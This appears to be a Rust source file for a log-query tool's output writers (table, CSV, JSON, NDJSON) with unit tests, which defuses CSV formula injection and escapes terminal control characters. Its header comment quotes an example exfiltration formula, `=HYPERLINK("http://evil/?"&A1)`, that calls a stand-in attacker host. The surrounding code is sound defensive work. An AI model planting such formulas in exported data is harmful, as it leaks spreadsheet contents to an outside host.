//! Result writers: an aligned table for people, CSV (RFC 4180 quoting), one
//! JSON array, or newline-delimited JSON. Values keep their type: numbers
//! stay numbers in JSON and NULL is `null`.
//!
//! Event fields are written by whoever logs in (`user_agent`, `user_name`,
//! `description`, ...), so a result can hold text such as
//! `=HYPERLINK("http://evil/?"&A1)`. Spreadsheets run a cell starting with
//! `=`, `+`, `-`, `@`, tab or carriage return as a formula (CSV injection,
//! OWASP). `--format csv` therefore writes such text cells with a leading
//! `'`, which spreadsheets take as "this is text" and do not display;
//! numbers are numbers, not text, and stay as they are. `csv-raw`, JSON and
//! NDJSON keep every value exact; the table is for a terminal, where nothing
//! is executed (control characters are shown escaped there, `terminal`).

use std::io::{self, Write};

use crate::choices::Format;

/// One cell, independent of the engine that produced it.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    Int(i64),
    Real(f64),
    Text(String),
}

impl Value {
    fn to_json(&self) -> serde_json::Value {
        match self {
            Value::Null => serde_json::Value::Null,
            Value::Bool(b) => serde_json::Value::Bool(*b),
            Value::Int(i) => serde_json::Value::from(*i),
            Value::Real(f) => serde_json::Number::from_f64(*f)
                .map(serde_json::Value::Number)
                .unwrap_or(serde_json::Value::Null),
            Value::Text(s) => serde_json::Value::String(s.clone()),
        }
    }

    /// Text as CSV and the table show it; NULL is empty.
    fn to_text(&self) -> String {
        match self {
            Value::Null => String::new(),
            Value::Bool(b) => b.to_string(),
            Value::Int(i) => i.to_string(),
            Value::Real(f) => f.to_string(),
            Value::Text(s) => s.clone(),
        }
    }
}

/// `--format` when given, else table on a terminal and CSV otherwise.
pub fn resolve_format(format: Option<Format>) -> Format {
    use std::io::IsTerminal;
    format.unwrap_or_else(|| {
        if io::stdout().is_terminal() {
            Format::Table
        } else {
            Format::Csv
        }
    })
}

/// Receives a result set row by row.
pub trait Sink {
    fn columns(&mut self, names: &[String]) -> io::Result<()>;
    fn row(&mut self, row: &[Value]) -> io::Result<()>;
    fn finish(&mut self) -> io::Result<()>;
}

/// A writer for `format` on `out`.
pub fn sink<'a, W: Write + 'a>(format: Format, out: W) -> Box<dyn Sink + 'a> {
    match format {
        Format::Table => Box::new(Table::new(out)),
        Format::Csv => Box::new(Csv { out, raw: false }),
        Format::CsvRaw => Box::new(Csv { out, raw: true }),
        Format::Json => Box::new(Json {
            out,
            names: Vec::new(),
            rows: 0,
            lines: false,
        }),
        Format::Ndjson => Box::new(Json {
            out,
            names: Vec::new(),
            rows: 0,
            lines: true,
        }),
    }
}

struct Csv<W: Write> {
    out: W,
    /// Keep text exact instead of defusing formulas (`csv-raw`).
    raw: bool,
}

/// The first characters that make a spreadsheet evaluate a cell (OWASP,
/// "CSV Injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Text a spreadsheet would run as a formula, with a leading `'` that makes
/// it literal text; any other text unchanged.
pub fn defuse_formula(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(FORMULA_START) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// RFC 4180: a field is quoted when it holds a comma, a quote, CR or LF, and
/// quotes inside are doubled.
pub fn csv_field(s: &str) -> std::borrow::Cow<'_, str> {
    if s.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", s.replace('"', "\"\"")).into()
    } else {
        s.into()
    }
}

impl<W: Write> Csv<W> {
    fn line<'b>(
        &mut self,
        fields: impl Iterator<Item = std::borrow::Cow<'b, str>>,
    ) -> io::Result<()> {
        let mut first = true;
        for f in fields {
            if !first {
                self.out.write_all(b",")?;
            }
            first = false;
            self.out.write_all(csv_field(&f).as_bytes())?;
        }
        self.out.write_all(b"\r\n")
    }
}

impl<W: Write> Sink for Csv<W> {
    fn columns(&mut self, names: &[String]) -> io::Result<()> {
        // Column names come from the SQL text (`AS "=..."`): text cells too.
        let raw = self.raw;
        self.line(names.iter().map(|n| {
            if raw {
                n.as_str().into()
            } else {
                defuse_formula(n)
            }
        }))
    }
    fn row(&mut self, row: &[Value]) -> io::Result<()> {
        let raw = self.raw;
        self.line(row.iter().map(|v| match v {
            Value::Text(s) if !raw => defuse_formula(s),
            v => v.to_text().into(),
        }))
    }
    fn finish(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

struct Json<W: Write> {
    out: W,
    names: Vec<String>,
    rows: u64,
    lines: bool,
}

impl<W: Write> Sink for Json<W> {
    fn columns(&mut self, names: &[String]) -> io::Result<()> {
        self.names = names.to_vec();
        if !self.lines {
            self.out.write_all(b"[")?;
        }
        Ok(())
    }
    fn row(&mut self, row: &[Value]) -> io::Result<()> {
        let mut obj = serde_json::Map::with_capacity(row.len());
        for (name, v) in self.names.iter().zip(row) {
            obj.insert(name.clone(), v.to_json());
        }
        if !self.lines {
            self.out
                .write_all(if self.rows == 0 { b"\n" } else { b",\n" })?;
        }
        serde_json::to_writer(&mut self.out, &obj)?;
        if self.lines {
            self.out.write_all(b"\n")?;
        }
        self.rows += 1;
        Ok(())
    }
    fn finish(&mut self) -> io::Result<()> {
        if !self.lines {
            self.out
                .write_all(if self.rows == 0 { b"]\n" } else { b"\n]\n" })?;
        }
        self.out.flush()
    }
}

/// Widest a prose cell gets before it is cut with an ellipsis. Identifiers
/// are never cut: a user copies them into the next command.
const MAX_CELL: usize = 48;

/// Whether a column holds identifiers (ids, keys, the ids a finding rests
/// on), which a table must show whole.
fn identifier_column(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    matches!(
        name.as_str(),
        "id" | "ids" | "key" | "log_ids" | "ip" | "hostname"
    ) || name.ends_with("_id")
        || name.ends_with("_ids")
}

/// Buffers rows to align columns; numbers are right-aligned.
struct Table<W: Write> {
    out: W,
    names: Vec<String>,
    rows: Vec<Vec<(String, bool)>>,
}

impl<W: Write> Table<W> {
    fn new(out: W) -> Self {
        Table {
            out,
            names: Vec::new(),
            rows: Vec::new(),
        }
    }
}

fn cell(v: &Value, identifier: bool) -> (String, bool) {
    let numeric = matches!(v, Value::Int(_) | Value::Real(_));
    // Control characters would break the grid or drive the terminal.
    let text = crate::terminal::printable(&v.to_text()).into_owned();
    // Prose has spaces; a value without any is a token (an id, an email, a
    // URL) that is useless cut, whatever its column.
    let prose = !identifier && text.contains(' ');
    if prose && text.chars().count() > MAX_CELL {
        let cut: String = text.chars().take(MAX_CELL - 1).collect();
        (format!("{cut}…"), numeric)
    } else {
        (text, numeric)
    }
}

impl<W: Write> Sink for Table<W> {
    fn columns(&mut self, names: &[String]) -> io::Result<()> {
        self.names = names
            .iter()
            .map(|n| crate::terminal::printable(n).into_owned())
            .collect();
        Ok(())
    }
    fn row(&mut self, row: &[Value]) -> io::Result<()> {
        let names = &self.names;
        self.rows.push(
            row.iter()
                .enumerate()
                .map(|(i, v)| cell(v, names.get(i).is_some_and(|n| identifier_column(n))))
                .collect(),
        );
        Ok(())
    }
    fn finish(&mut self) -> io::Result<()> {
        let width = |s: &str| s.chars().count();
        let mut widths: Vec<usize> = self.names.iter().map(|n| width(n)).collect();
        for row in &self.rows {
            for (w, (text, _)) in widths.iter_mut().zip(row) {
                *w = (*w).max(width(text));
            }
        }
        let pad = |text: &str, w: usize, right: bool| {
            let fill = " ".repeat(w.saturating_sub(width(text)));
            if right {
                format!("{fill}{text}")
            } else {
                format!("{text}{fill}")
            }
        };
        let header: Vec<String> = self
            .names
            .iter()
            .zip(&widths)
            .map(|(n, w)| pad(n, *w, false))
            .collect();
        writeln!(self.out, "{}", header.join("  ").trim_end())?;
        let rule: Vec<String> = widths.iter().map(|w| "─".repeat(*w)).collect();
        writeln!(self.out, "{}", rule.join("  "))?;
        for row in &self.rows {
            let line: Vec<String> = row
                .iter()
                .zip(&widths)
                .map(|((text, num), w)| pad(text, *w, *num))
                .collect();
            writeln!(self.out, "{}", line.join("  ").trim_end())?;
        }
        let n = self.rows.len();
        writeln!(self.out, "({n} row{})", if n == 1 { "" } else { "s" })?;
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn render(format: Format, rows: &[Vec<Value>]) -> String {
        let mut buf = Vec::new();
        {
            let mut s = sink(format, &mut buf);
            s.columns(&["a".to_string(), "b".to_string()]).unwrap();
            for r in rows {
                s.row(r).unwrap();
            }
            s.finish().unwrap();
        }
        String::from_utf8(buf).unwrap()
    }

    #[test]
    fn csv_quotes_only_what_rfc4180_requires() {
        let out = render(
            Format::Csv,
            &[
                vec![Value::Text("x,\"y\"\nz".into()), Value::Null],
                vec![Value::Int(3), Value::Real(1.5)],
            ],
        );
        assert_eq!(out, "a,b\r\n\"x,\"\"y\"\"\nz\",\r\n3,1.5\r\n");
    }

    #[test]
    fn csv_defuses_text_formulas_but_not_numbers_and_csv_raw_keeps_them() {
        let rows = [
            vec![Value::Text("=1+2".into()), Value::Int(-5)],
            vec![Value::Text("+x".into()), Value::Real(-1.5)],
            vec![Value::Text("-x,y".into()), Value::Text("@SUM(A1)".into())],
            vec![Value::Text("\tt".into()), Value::Text("\rr".into())],
            vec![Value::Text("a=b".into()), Value::Text(String::new())],
        ];
        assert_eq!(
            render(Format::Csv, &rows),
            "a,b\r\n'=1+2,-5\r\n'+x,-1.5\r\n\"'-x,y\",'@SUM(A1)\r\n'\tt,\"'\rr\"\r\na=b,\r\n"
        );
        assert_eq!(
            render(Format::CsvRaw, &rows),
            "a,b\r\n=1+2,-5\r\n+x,-1.5\r\n\"-x,y\",@SUM(A1)\r\n\tt,\"\rr\"\r\na=b,\r\n"
        );
    }

    #[test]
    fn json_keeps_types_and_an_empty_result_is_an_empty_array() {
        let out = render(Format::Json, &[vec![Value::Int(3), Value::Null]]);
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v, serde_json::json!([{"a": 3, "b": null}]));
        assert_eq!(render(Format::Json, &[]).trim(), "[]");
    }

    #[test]
    fn table_shortens_prose_but_never_an_identifier() {
        let prose = "word ".repeat(40);
        let out = render(Format::Table, &[vec![Value::Text(prose), Value::Int(1)]]);
        assert!(out.contains('…'));
        assert!(out.lines().all(|l| l.chars().count() < 80));
        let token = "9".repeat(120);
        let out = render(
            Format::Table,
            &[vec![Value::Text(token.clone()), Value::Int(1)]],
        );
        assert!(out.contains(&token), "{out}");
    }
}
